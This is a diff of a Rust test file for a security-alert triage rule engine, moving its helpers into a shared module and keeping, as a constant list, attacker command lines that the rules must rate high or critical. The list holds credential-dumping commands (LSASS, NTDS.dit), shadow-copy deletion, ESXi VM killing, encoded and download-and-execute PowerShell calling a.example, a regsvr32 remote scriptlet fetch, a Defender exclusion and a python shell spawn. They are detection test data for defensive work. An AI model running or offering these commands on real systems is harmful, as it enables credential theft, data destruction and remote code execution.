@@ -1,41 +1,9 @@
-//! Alerts that no rule was written for: how the built-in set generalises.
-//!
-//! Each is an attack or an honest job in another tool, spelling or platform than the rules' own tests.
+//! Attacks: other tools, spellings and platforms than the rules' own tests.
 
-#![expect(clippy::unwrap_used, reason = "a test may stop at the first surprise")]
+use serde_json::json;
+use vyrox_domain::triage::Verdict;
 
-use serde_json::{Value, json};
-use vyrox_domain::triage::{Bands, Verdict, assess};
-use vyrox_rules::{Example, RuleSet};
-
-/// Collects what came out otherwise than wanted, so that one run shows all of it.
-fn check(wanted: &[Verdict], alerts: &[Value]) {
-    let rules = RuleSet::builtin().unwrap();
-    let wrong: Vec<String> = alerts
-        .iter()
-        .filter_map(|alert| {
-            let example = Example {
-                alert: alert.clone(),
-                verdict: None,
-            };
-            let built = example.build().unwrap();
-            let hits = rules.evaluate(&built);
-            let reached = assess(built.severity, &hits, Bands::default());
-            let spoke: Vec<String> = hits.into_iter().map(|hit| hit.rule_id).collect();
-            (!wanted.contains(&reached.verdict)).then(|| {
-                format!(
-                    "{} at {} by {spoke:?}: {alert}",
-                    reached.verdict, reached.score_bp
-                )
-            })
-        })
-        .collect();
-    assert!(wrong.is_empty(), "wanted {wanted:?}\n{}", wrong.join("\n"));
-}
-
-fn line(severity: &str, image: &str, command_line: &str) -> Value {
-    json!({"severity": severity, "process": {"image": image, "command_line": command_line}})
-}
+use crate::{check, line};
 
 #[test]
 fn credential_dumping_is_critical() {
@@ -300,102 +268,65 @@ fn other_attacks_are_at_least_for_a_person() {
     );
 }
 
-#[test]
-fn honest_work_is_closed() {
-    check(
-        &[Verdict::Low, Verdict::Benign],
-        &[
-            json!({"severity": "low", "user": {"name": r"CORP\svc-backup"},
-                   "process": {"image": "robocopy.exe", "command_line": r"robocopy.exe \\files01\data \\nas02\backups\files01 /MIR /Z /W:5"}}),
-            json!({"severity": "medium", "user": {"name": "svc_veeam"}, "process": {"image": "Veeam.Backup.Agent.exe"}}),
-            json!({"severity": "informational", "user": {"name": "backup_svc"}, "tactics": ["Collection"], "techniques": ["T1039"],
-                   "process": {"image": "robocopy.exe", "command_line": r"robocopy D:\a E:\b /E"}}),
-            json!({"severity": "medium", "user": {"name": "SVC_SQLBackup"}, "process": {"image": "sqlcmd.exe",
-                   "command_line": "sqlcmd -Q \"BACKUP DATABASE crm TO DISK='E:\\crm.bak'\""}}),
-            json!({"severity": "low", "process": {"image": "ipconfig.exe", "command_line": "ipconfig /all"}}),
-            json!({"severity": "low", "process": {"image": "powershell.exe", "command_line": "powershell Get-Service"}}),
-            json!({"severity": "informational", "process": {"image": "chrome.exe"}}),
-            json!({"severity": "low", "title": "Potentially unwanted toolbar", "process": {"image": "setup.exe"}}),
-        ],
-    );
-}
+const SPELLINGS: &[(&str, &str)] = &[
+    ("rundll32.exe", r"rundll32 comsvcs,#+000024 700 C:\x full"),
+    ("sqldumper.exe", "sqldumper.exe 700 0 0x01100:40"),
+    (
+        "dumpminitool.exe",
+        r"DumpMinitool.exe --file C:\x.dmp --processId 700 --dumpType Full",
+    ),
+    (
+        "diskshadow.exe",
+        r"diskshadow /s C:\t\s.txt && copy z:\windows\ntds\ntds.dit c:\t",
+    ),
+    (
+        "esxcli",
+        "esxcli --formatter=csv vm process list | xargs esxcli vm process kill --type=force",
+    ),
+    (
+        "powershell.exe",
+        "powershell -c \"gwmi Win32_ShadowCopy | % { $_.Delete() }\"",
+    ),
+    ("cmd.exe", "cmd /c \"vss\"\"admin\" delete shadows /all"),
+    (
+        "wmic.exe",
+        "wmic /node:@hosts.txt process call create \"a.exe\"",
+    ),
+    (
+        "powershell.exe",
+        "powershell -En SQBFAFgAIAAkAGEAYgBjAGQAZQA=",
+    ),
+    (
+        "powershell.exe",
+        "powershell $x=(New-Object -ComObject Msxml2.XMLHTTP);$x.open('GET','http://a.example');iex $x.responseText",
+    ),
+    (
+        "cmd.exe",
+        "cmd /c start /b powershell . (nslookup -q=txt a.example); IEX (curl http://a.example/x)",
+    ),
+    (
+        "reg.exe",
+        r"reg add HKLM\SYSTEM\CurrentControlSet\Services\x /v ImagePath /d C:\Users\Public\x.exe",
+    ),
+    (
+        "powershell.exe",
+        "powershell Add-MpPreference -ExclusionPath C:\\",
+    ),
+    (
+        "installutil.exe",
+        "regsvr32.exe -s -u -n -i:https://a.example/x scrobj.dll",
+    ),
+    (
+        "python",
+        "python3 -c \"import pty,socket;s=socket.socket();pty.spawn('/bin/bash')\"",
+    ),
+];
 
 #[test]
-fn a_second_helping_of_tools_and_spellings() {
-    check(
-        &[Verdict::High, Verdict::Critical],
-        &[
-            line(
-                "high",
-                "rundll32.exe",
-                r"rundll32 comsvcs,#+000024 700 C:\x full",
-            ),
-            line("high", "sqldumper.exe", "sqldumper.exe 700 0 0x01100:40"),
-            line(
-                "high",
-                "dumpminitool.exe",
-                r"DumpMinitool.exe --file C:\x.dmp --processId 700 --dumpType Full",
-            ),
-            line(
-                "high",
-                "diskshadow.exe",
-                r"diskshadow /s C:\t\s.txt && copy z:\windows\ntds\ntds.dit c:\t",
-            ),
-            line(
-                "high",
-                "esxcli",
-                "esxcli --formatter=csv vm process list | xargs esxcli vm process kill --type=force",
-            ),
-            line(
-                "high",
-                "powershell.exe",
-                "powershell -c \"gwmi Win32_ShadowCopy | % { $_.Delete() }\"",
-            ),
-            line(
-                "high",
-                "cmd.exe",
-                "cmd /c \"vss\"\"admin\" delete shadows /all",
-            ),
-            line(
-                "high",
-                "wmic.exe",
-                "wmic /node:@hosts.txt process call create \"a.exe\"",
-            ),
-            line(
-                "high",
-                "powershell.exe",
-                "powershell -En SQBFAFgAIAAkAGEAYgBjAGQAZQA=",
-            ),
-            line(
-                "high",
-                "powershell.exe",
-                "powershell $x=(New-Object -ComObject Msxml2.XMLHTTP);$x.open('GET','http://a.example');iex $x.responseText",
-            ),
-            line(
-                "high",
-                "cmd.exe",
-                "cmd /c start /b powershell . (nslookup -q=txt a.example); IEX (curl http://a.example/x)",
-            ),
-            line(
-                "high",
-                "reg.exe",
-                r"reg add HKLM\SYSTEM\CurrentControlSet\Services\x /v ImagePath /d C:\Users\Public\x.exe",
-            ),
-            line(
-                "high",
-                "powershell.exe",
-                "powershell Add-MpPreference -ExclusionPath C:\\",
-            ),
-            line(
-                "high",
-                "installutil.exe",
-                "regsvr32.exe -s -u -n -i:https://a.example/x scrobj.dll",
-            ),
-            line(
-                "high",
-                "python",
-                "python3 -c \"import pty,socket;s=socket.socket();pty.spawn('/bin/bash')\"",
-            ),
-        ],
-    );
+fn other_tools_and_spellings_are_classified() {
+    let alerts: Vec<_> = SPELLINGS
+        .iter()
+        .map(|(image, command_line)| line("high", image, command_line))
+        .collect();
+    check(&[Verdict::High, Verdict::Critical], &alerts);
 }
